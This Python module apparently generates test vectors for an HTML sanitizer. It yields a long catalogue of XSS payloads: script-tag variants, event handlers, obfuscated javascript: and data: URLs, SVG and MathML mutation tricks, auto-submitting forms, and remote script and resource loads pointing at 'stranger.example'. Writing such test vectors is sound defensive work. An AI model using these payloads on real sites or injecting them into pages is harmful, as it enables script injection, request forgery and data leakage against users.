"""Texts that would run, load or submit something wherever a page took them for markup.

Made from the classes every catalogue knows. What runs sets `window.ran`; what loads asks a stranger.
"""

from collections.abc import Iterator

STRANGER = "stranger.example"
JS = "window.ran=1"
FAR = f"https://{STRANGER}/x"


def _scripts() -> Iterator[str]:
    whole = f"<script>{JS}</script>"
    yield from (whole, whole.replace("script", "ScRiPt"), f"<script\n>{JS}</script\n>")
    yield from (f"<script/x>{JS}</script>", f"<script>{JS}", f"<<script>{JS}//<</script>")
    yield from (f"<scr<script>ipt>{JS}</scr</script>ipt>", f"<script src={FAR}></script>")
    yield from (f"<script src=//{STRANGER}/x></script>", f"<script type=module>{JS}</script>")
    for closing in (
        "title",
        "textarea",
        "style",
        "noscript",
        "template",
        "option",
        "button",
        "mark",
    ):
        yield f"</{closing}>{whole}"
    yield from (f'">{whole}', f"'>{whole}", f"-->{whole}", f"]]>{whole}", f"</script>{whole}")


def _handlers() -> Iterator[str]:
    elements = (
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("embed src=/", "onload"),
        ("style", "onload"),
        ("button autofocus", "onfocus"),
    )
    for element, handler in elements:
        yield f'<{element} {handler}="{JS}">'
    for space in ("/", "\t", "\n", "\f", " a=b "):
        for quote in ("", "'"):
            yield f"<img{space}src=x{space}onerror={quote}{JS}{quote}>"
    for quote in ('"', "'", "`", ""):
        yield f"x{quote} autofocus tabindex=1 onfocus={JS} y={quote}"
        yield f"x{quote}><img src=x onerror={JS}>"


def _addresses() -> Iterator[str]:
    spelt = (
        f"javascript:{JS}",
        f"JaVaScRiPt:{JS}",
        f"java\tscript:{JS}",
        f"java\nscript:{JS}",
        f"\x01javascript:{JS}",
        f"  javascript:{JS}",
        f"&#106;avascript:{JS}",
        f"&#x6A;avascript:{JS}",
        f"java&Tab;script:{JS}",
        f"javascript&colon;{JS}",
        f"javascript://%0a{JS}",
        f"vbscript:{JS}",
        f"data:text/html,<script>{JS}</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
        f"blob:{FAR}",
        f"view-source:{FAR}",
        f"//{STRANGER}/x",
        f"https:{STRANGER}",
        f"\\\\{STRANGER}\\x",
    )
    yield from spelt
    for address in spelt[:15:3]:
        yield f'<a href="{address}">x</a>'
        yield f'<iframe src="{address}"></iframe>'
    for holder in ("object data", "embed src", "form action", "base href", "area href"):
        yield f'<{holder}="javascript:{JS}">'
    yield f'<meta http-equiv=refresh content="0;url=javascript:{JS}">'
    yield f"<form><button formaction=javascript:{JS} autofocus>x</button></form>"


def _drawings() -> Iterator[str]:
    yield f"<svg><script>{JS}</script></svg>"
    yield f"<svg><script href={FAR} /></svg>"
    yield f"<svg><a xlink:href=javascript:{JS}><text y=9>x</text></a></svg>"
    yield f"<svg><animate onbegin={JS} attributeName=x dur=1s>"
    yield f"<svg><set onbegin={JS} attributeName=x dur=1s>"
    yield f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>"
    yield f"<svg><image href={FAR} /></svg>"
    yield f"<svg><use href={FAR}#x /></svg>"
    yield f"<svg><style><img src=x onerror={JS}></style></svg>"
    yield f"<math href=javascript:{JS}>x</math>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={JS}></style>"
    yield f'<math><mi><style></mi><img title="</style><img src=x onerror={JS}>">'
    yield f"<math><annotation-xml encoding=text/html><img src=x onerror={JS}>"
    yield f"<template><img src=x onerror={JS}></template>"
    yield f"<div><template shadowrootmode=open><img src=x onerror={JS}></template></div>"
    yield f'<noscript><p title="</noscript><img src=x onerror={JS}>">'


def _loads() -> Iterator[str]:
    for tag in ("img", "iframe", "embed", "video autoplay", "audio autoplay", "input type=image"):
        yield f"<{tag} src={FAR}>"
    yield from (f"<img srcset='{FAR} 1x'>", f"<video poster={FAR}>", f"<object data={FAR}>")
    yield from (f"<picture><source srcset={FAR}><img></picture>", f"<body background={FAR}>")
    yield from (f"<table background={FAR}><td>x", f"<link rel=stylesheet href={FAR}>")
    yield from (f"<link rel=prefetch href={FAR}>", f"<link rel=preload as=image href={FAR}>")
    yield from (f"<base href=https://{STRANGER}/><img src=x>", f"<iframe srcdoc='<img src={FAR}>'>")
    yield f"<meta http-equiv=refresh content='0;url={FAR}'>"
    yield from (f"<style>@import '{FAR}';</style>", f"<style>*{{background:url({FAR})}}</style>")
    yield f"<div style=\"background:url('{FAR}')\">x</div>"
    yield f"<div style=background-image:url({FAR})>x</div>"
    yield f"<style>@font-face{{font-family:f;src:url({FAR})}}*{{font-family:f}}</style>"
    yield f"<style>@keyframes k{{}}</style><p style=animation:k onanimationstart={JS}>x"
    yield f"url({FAR})"
    yield f"x; background: url({FAR})"


def _submits() -> Iterator[str]:
    yield f"<form action={FAR} method=post><input name=csrf><input type=submit autofocus></form>"
    yield f"<form id=f action={FAR}></form><img src=x onerror=f.submit()>"
    yield f"</form><form action={FAR} method=post><button class=approve>Approve</button>"
    yield f"<button form=bulk formaction={FAR} name=match value=1>Approve</button>"
    yield f"<input name=csrf value=x><input name=next value={FAR}>"
    yield f"<a href=/logout ping={FAR}>x</a>"


def _entities_and_ruins() -> Iterator[str]:
    inside = f"img src=x onerror={JS}"
    yield from (f"&lt;{inside}&gt;", f"&#60;{inside}&#62;", f"&#x3c;{inside}&#x3e;")
    yield from (f"&#60{inside}&#62", f"&amp;lt;{inside}&amp;gt;", f"&LT;{inside}&GT;")
    yield from (
        f"<!--><{inside}>",
        f"<!--!><{inside}>",
        f"<!-- --!><{inside}>",
        f"<![CDATA[<{inside}>]]>",
    )
    yield from (
        f"<?xml ?><{inside}>",
        f"<!x><{inside}>",
        f"</ <{inside}>",
        f"<{inside}",
        f'<img src="x" "{inside}>',
    )
    yield from (
        f'<img src="x` `<{inside}>',
        f"<a title='\"><{inside}>",
        f"<p id='</p><{inside}>'>",
        f"<\x0bimg {inside}>",
    )
    yield from (f"＜{inside}＞", f"\u202e<{inside}>", f"\ufeff<{inside}>", f"+ADw-{inside}+AD4-")
    yield from (
        f"\\u003c{inside}\\u003e",
        f"%3C{inside}%3E",
        f'"}};{JS};//',
        f"';{JS};'",
        f"`${{{JS}}}`",
    )
    yield from ("{{ 7 * 7 }}", "{% raw %}", "${7*7}", "#{7*7}", f"\u2028{JS}\u2029", "<%= 7 * 7 %>")  # fmt: skip


VECTORS = tuple(
    dict.fromkeys(
        vector
        for made in (
            _scripts(),
            _handlers(),
            _addresses(),
            _drawings(),
            _loads(),
            _submits(),
            _entities_and_ruins(),
        )
        for vector in made
    )
)
